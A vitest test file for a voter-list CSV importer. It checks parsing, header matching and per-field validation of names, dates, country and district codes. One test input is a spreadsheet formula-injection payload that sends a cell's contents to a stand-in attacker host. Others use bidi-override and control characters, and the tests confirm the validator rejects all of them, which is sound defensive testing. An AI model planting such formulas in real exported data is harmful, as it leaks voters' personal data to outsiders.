import { describe, expect, it } from 'vitest';
import {
	checkHeader,
	checkVoterRow,
	CsvParser,
	firstErrors,
	isIsoCalendarDate,
	normalizeText,
	parseCsv,
	VOTER_CSV_COLUMNS,
	VOTER_CSV_HEADER,
	voterCsvRow,
	voterIdentity,
	type CsvRecord,
	type ImportError,
	type ImportLists
} from './voter-import';

const HEADER = VOTER_CSV_COLUMNS.join(',');
const TODAY = '2026-11-20';

const LISTS: ImportLists = {
	municipality: (code) => (code === '582786' ? { officeId: 'office-brno' } : undefined),
	specialDistrict: (n) => (n === 1 ? { officeId: 'office-berlin', countries: ['DE'] } : undefined)
};

/** A valid row of Brno's list, with fields replaced as given. */
function row(overrides: Partial<Record<(typeof VOTER_CSV_COLUMNS)[number], string>> = {}): string[] {
	const base: Record<(typeof VOTER_CSV_COLUMNS)[number], string> = {
		given_name: 'Jana',
		family_name: 'Nováková',
		birth_date: '1980-05-17',
		address_line: 'Masarykova 12',
		city: 'Brno',
		postal_code: '602 00',
		country_code: 'CZ',
		municipality_code: '582786',
		special_district: '',
		eid_subject: ''
	};
	const merged = { ...base, ...overrides };
	return VOTER_CSV_COLUMNS.map((c) => merged[c]);
}

const check = (fields: string[], line = 2) => checkVoterRow({ line, fields }, LISTS, TODAY);
const errorsOf = (fields: string[], line = 2): ImportError[] => {
	const result = check(fields, line);
	return result.ok ? [] : result.errors;
};

describe('CsvParser', () => {
	it('reads plain rows with LF and with CRLF line ends, numbering lines from the header', () => {
		for (const eol of ['\n', '\r\n']) {
			const records = parseCsv(['a,b,c', '1,2,3', '4,5,6'].join(eol) + eol);
			expect(records).toEqual([
				{ line: 1, fields: ['a', 'b', 'c'] },
				{ line: 2, fields: ['1', '2', '3'] },
				{ line: 3, fields: ['4', '5', '6'] }
			]);
		}
	});

	it('drops a byte order mark at the start and reads a last line without a line end', () => {
		expect(parseCsv('\uFEFFa,b\n1,2')).toEqual([
			{ line: 1, fields: ['a', 'b'] },
			{ line: 2, fields: ['1', '2'] }
		]);
	});

	it('reads quoted fields with commas, doubled quotes and line breaks, and counts the lines inside', () => {
		const records = parseCsv('a,b\n"Dlouhá 5, byt 3","řekl ""ahoj"""\n"dva\nřádky",x\nposlední,y\n');
		expect(records).toEqual([
			{ line: 1, fields: ['a', 'b'] },
			{ line: 2, fields: ['Dlouhá 5, byt 3', 'řekl "ahoj"'] },
			{ line: 3, fields: ['dva\nřádky', 'x'] },
			{ line: 5, fields: ['poslední', 'y'] }
		]);
	});

	it('keeps empty fields, and skips blank lines while counting them', () => {
		expect(parseCsv('a,,c\n\n,,\n"",x\n')).toEqual([
			{ line: 1, fields: ['a', '', 'c'] },
			{ line: 3, fields: ['', '', ''] },
			{ line: 4, fields: ['', 'x'] }
		]);
	});

	it('gives the same records whatever the chunks, CRLF and quotes split across them included', () => {
		const text = '\uFEFFa,b\r\n"x,""y""\r\nz",2\r\n3,4\r\n';
		const whole = parseCsv(text);
		for (let size = 1; size <= 7; size++) {
			const parser = new CsvParser();
			const records: CsvRecord[] = [];
			for (let i = 0; i < text.length; i += size) records.push(...parser.push(text.slice(i, i + size)));
			records.push(...parser.end());
			expect(records, `chunks of ${size}`).toEqual(whole);
		}
		expect(whole).toEqual([
			{ line: 1, fields: ['a', 'b'] },
			{ line: 2, fields: ['x,"y"\r\nz', '2'] },
			{ line: 4, fields: ['3', '4'] }
		]);
	});

	it('marks an unterminated quote at the line where the record starts', () => {
		expect(parseCsv('a,b\n1,"open\n2,3\n')).toEqual([
			{ line: 1, fields: ['a', 'b'] },
			{ line: 2, fields: ['1', 'open\n2,3\n'], error: 'unterminated-quote' }
		]);
	});

	it('marks a quote inside an unquoted field and text after a closing quote', () => {
		const records = parseCsv('a,b\n12" TV,x\n"ok"x,y\n');
		expect(records[1]).toMatchObject({ line: 2, error: 'stray-quote' });
		expect(records[2]).toMatchObject({ line: 3, error: 'stray-quote' });
	});
});

describe('writing', () => {
	it('quotes only what needs it, and a written row reads back the same', () => {
		const line = voterCsvRow({
			givenName: 'Jan "Honza"',
			familyName: 'Novák',
			birthDate: '1970-01-02',
			addressLine: 'Dlouhá 5, byt 3',
			city: 'Brno',
			postalCode: '602 00',
			countryCode: 'CZ',
			municipalityCode: '582786',
			specialDistrict: 1,
			eidSubject: null
		});
		expect(parseCsv(VOTER_CSV_HEADER + line)).toEqual([
			{ line: 1, fields: [...VOTER_CSV_COLUMNS] },
			{ line: 2, fields: ['Jan "Honza"', 'Novák', '1970-01-02', 'Dlouhá 5, byt 3', 'Brno', '602 00', 'CZ', '582786', '1', ''] }
		]);
	});
});

describe('checkHeader', () => {
	it('accepts the exact columns, in any case and with spaces around', () => {
		expect(checkHeader({ line: 1, fields: [...VOTER_CSV_COLUMNS] })).toBeNull();
		expect(checkHeader({ line: 1, fields: VOTER_CSV_COLUMNS.map((c) => ` ${c.toUpperCase()} `) })).toBeNull();
	});

	it('refuses a missing, extra, renamed or reordered column, a semicolon file and an empty file', () => {
		const cols = [...VOTER_CSV_COLUMNS];
		const refused = [
			cols.slice(1),
			[...cols, 'email'],
			cols.map((c) => (c === 'birth_date' ? 'date_of_birth' : c)),
			[cols[1]!, cols[0]!, ...cols.slice(2)],
			[cols.join(';')]
		];
		for (const fields of refused) expect(checkHeader({ line: 1, fields })).toEqual({ line: 1, field: null, code: 'header' });
		expect(checkHeader(undefined)).toEqual({ line: 1, field: null, code: 'header' });
		expect(parseCsv(HEADER + '\n').length).toBe(1);
	});
});

describe('checkVoterRow', () => {
	it('accepts a valid municipal row and normalises it', () => {
		const result = check(row({ given_name: '  Jana  Marie ', country_code: 'cz', family_name: 'Nova\u0301kova\u0301' }));
		expect(result).toEqual({
			ok: true,
			voter: {
				line: 2,
				municipalityCode: '582786',
				specialDistrict: null,
				municipalOfficeId: 'office-brno',
				specialDistrictOfficeId: null,
				givenName: 'Jana Marie',
				familyName: 'Nováková',
				birthDate: '1980-05-17',
				addressLine: 'Masarykova 12',
				city: 'Brno',
				postalCode: '602 00',
				countryCode: 'CZ',
				eidSubject: null
			}
		});
	});

	it('accepts a special-district row abroad, with an eID subject and no postal code', () => {
		const result = check(
			row({ municipality_code: '', special_district: '1', country_code: 'DE', city: 'Berlin', postal_code: '', eid_subject: 'eid-123' })
		);
		expect(result.ok && result.voter).toMatchObject({ specialDistrict: 1, specialDistrictOfficeId: 'office-berlin', postalCode: '', eidSubject: 'eid-123' });
	});

	it('accepts a voter on both lists (registered abroad, still on the municipal list)', () => {
		const result = check(row({ special_district: '1', country_code: 'DE' }));
		expect(result.ok && result.voter).toMatchObject({ municipalOfficeId: 'office-brno', specialDistrictOfficeId: 'office-berlin' });
	});

	it('names the line and the field of every kind of error', () => {
		const cases: [Partial<Record<(typeof VOTER_CSV_COLUMNS)[number], string>>, string, string][] = [
			[{ given_name: '' }, 'given_name', 'required'],
			[{ family_name: '   ' }, 'family_name', 'required'],
			[{ address_line: '' }, 'address_line', 'required'],
			[{ city: '' }, 'city', 'required'],
			[{ country_code: '' }, 'country_code', 'required'],
			[{ birth_date: '' }, 'birth_date', 'required'],
			[{ birth_date: '1980-02-30' }, 'birth_date', 'date-invalid'],
			[{ birth_date: '17. 5. 1980' }, 'birth_date', 'date-invalid'],
			[{ birth_date: '2030-01-01' }, 'birth_date', 'date-in-future'],
			[{ birth_date: '1899-12-31' }, 'birth_date', 'date-too-early'],
			[{ given_name: 'x'.repeat(101) }, 'given_name', 'too-long'],
			[{ given_name: 'Ja\u0000na' }, 'given_name', 'invalid-characters'],
			[{ family_name: 'Nov\u202eáková' }, 'family_name', 'invalid-characters'],
			[{ city: 'Br\u2066no' }, 'city', 'invalid-characters'],
			[{ address_line: 'Dlouhá\u00855' }, 'address_line', 'invalid-characters'],
			[{ given_name: '=HYPERLINK("http://evil.example/"&A1,"Klikni")' }, 'given_name', 'formula-start'],
			[{ family_name: '+Novák' }, 'family_name', 'formula-start'],
			[{ address_line: '-1 Dlouhá' }, 'address_line', 'formula-start'],
			[{ city: '@Brno' }, 'city', 'formula-start'],
			[{ postal_code: '=602' }, 'postal_code', 'formula-start'],
			[{ given_name: ' \t=1' }, 'given_name', 'formula-start'],
			[{ country_code: 'CZE' }, 'country_code', 'country-invalid'],
			[{ city: 'x'.repeat(101) }, 'city', 'too-long'],
			[{ country_code: 'C1' }, 'country_code', 'country-invalid'],
			[{ country_code: 'SK' }, 'country_code', 'country-outside-area'],
			[{ municipality_code: '', special_district: '1', country_code: 'AT' }, 'country_code', 'country-outside-area'],
			[{ municipality_code: '58278' }, 'municipality_code', 'municipality-code-invalid'],
			[{ municipality_code: '999999' }, 'municipality_code', 'municipality-unknown'],
			[{ municipality_code: '', special_district: 'Berlín', country_code: 'DE' }, 'special_district', 'special-district-invalid'],
			[{ municipality_code: '', special_district: '0', country_code: 'DE' }, 'special_district', 'special-district-invalid'],
			[{ municipality_code: '', special_district: '99', country_code: 'DE' }, 'special_district', 'special-district-unknown'],
			[{ municipality_code: '', special_district: '' }, 'municipality_code', 'list-missing']
		];
		for (const [overrides, field, code] of cases) {
			expect(errorsOf(row(overrides), 7), JSON.stringify(overrides)).toEqual([{ line: 7, field, code }]);
		}
	});

	it('reports every bad field of a row, not only the first', () => {
		expect(errorsOf(row({ given_name: '', birth_date: 'yesterday', municipality_code: '123456' }), 4)).toEqual([
			{ line: 4, field: 'given_name', code: 'required' },
			{ line: 4, field: 'birth_date', code: 'date-invalid' },
			{ line: 4, field: 'municipality_code', code: 'municipality-unknown' }
		]);
	});

	it('refuses a row with the wrong number of fields and a malformed record', () => {
		expect(errorsOf(row().slice(1), 5)).toEqual([{ line: 5, field: null, code: 'field-count' }]);
		expect(errorsOf([...row(), 'extra'], 5)).toEqual([{ line: 5, field: null, code: 'field-count' }]);
		expect(checkVoterRow({ line: 6, fields: row(), error: 'stray-quote' }, LISTS, TODAY)).toEqual({
			ok: false,
			errors: [{ line: 6, field: null, code: 'stray-quote' }]
		});
	});

	it('gives one identity to rows that differ only in spacing, case of the country or eID subject', () => {
		const a = check(row({ eid_subject: 'x' }));
		const b = check(row({ address_line: ' Masarykova   12 ', country_code: 'cz' }));
		const c = check(row({ address_line: 'Masarykova 14' }));
		if (!a.ok || !b.ok || !c.ok) throw new Error('rows should be valid');
		expect(voterIdentity(a.voter)).toBe(voterIdentity(b.voter));
		expect(voterIdentity(a.voter)).not.toBe(voterIdentity(c.voter));
	});
});

describe('isIsoCalendarDate and normalizeText', () => {
	it('knows real dates, leap years included', () => {
		for (const ok of ['1980-01-31', '2000-02-29', '2024-02-29', '1999-12-31', '1900-02-28']) expect(isIsoCalendarDate(ok), ok).toBe(true);
		for (const bad of ['1900-02-29', '2023-02-29', '1980-04-31', '1980-00-10', '1980-13-01', '1980-01-00', '1980-1-01', '80-01-01', '1980/01/01', '']) {
			expect(isIsoCalendarDate(bad), bad).toBe(false);
		}
	});

	it('composes accents (NFC) and folds white space, leaving clean text as it is', () => {
		expect(normalizeText('Nova\u0301kova\u0301')).toBe('Nováková');
		expect(normalizeText(' Dlouhá\t 5\n ')).toBe('Dlouhá 5');
		expect(normalizeText('U\u00a0Lesa 3')).toBe('U Lesa 3');
		expect(normalizeText('Masarykova 12')).toBe('Masarykova 12');
	});
});

describe('firstErrors', () => {
	it('merges lists in file order and cuts them at the limit', () => {
		const a: ImportError[] = [
			{ line: 2, field: 'birth_date', code: 'date-invalid' },
			{ line: 9, field: null, code: 'field-count' }
		];
		const b: ImportError[] = [
			{ line: 4, field: 'eid_subject', code: 'duplicate-eid', otherLine: 3 },
			{ line: 2, field: 'given_name', code: 'required' }
		];
		expect(firstErrors([a, b], 3)).toEqual([
			{ line: 2, field: 'given_name', code: 'required' },
			{ line: 2, field: 'birth_date', code: 'date-invalid' },
			{ line: 4, field: 'eid_subject', code: 'duplicate-eid', otherLine: 3 }
		]);
	});
});
